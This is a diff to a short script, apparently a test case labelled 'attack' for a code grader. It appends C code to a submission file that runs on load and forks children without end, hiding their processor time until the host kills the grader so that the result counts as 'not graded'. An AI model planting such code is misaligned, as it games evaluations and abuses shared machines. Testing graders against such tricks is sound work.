@@ -1,14 +1,17 @@
 #!/bin/sh
-# attack: hides its processor time in children that nobody waits for, until the host ends the grader: "not graded" costs no attempt
+# attack: hides its processor time in children whose ends nobody collects, until the host ends the grader: "not graded" costs no attempt
 # deadline: 12
 # score: 0
-# named: had neither used up
+# named: used up
 cat >>kdtree2d_build.c <<'C'
 #include <signal.h>
-#include <unistd.h>
+#include <sys/wait.h>
 #include <time.h>
+#include <unistd.h>
 __attribute__((constructor)) static void hide(void)
 {
+    // Their time is then added to nobody's. One at a time: on a busy machine they would pile up,
+    // and break another limit first.
     signal(SIGCHLD, SIG_IGN);
     for (;;) {
         if (fork() == 0) {
@@ -16,7 +19,7 @@ __attribute__((constructor)) static void hide(void)
             }
             _exit(0);
         }
-        usleep(15000);
+        wait(NULL);
     }
 }
 C
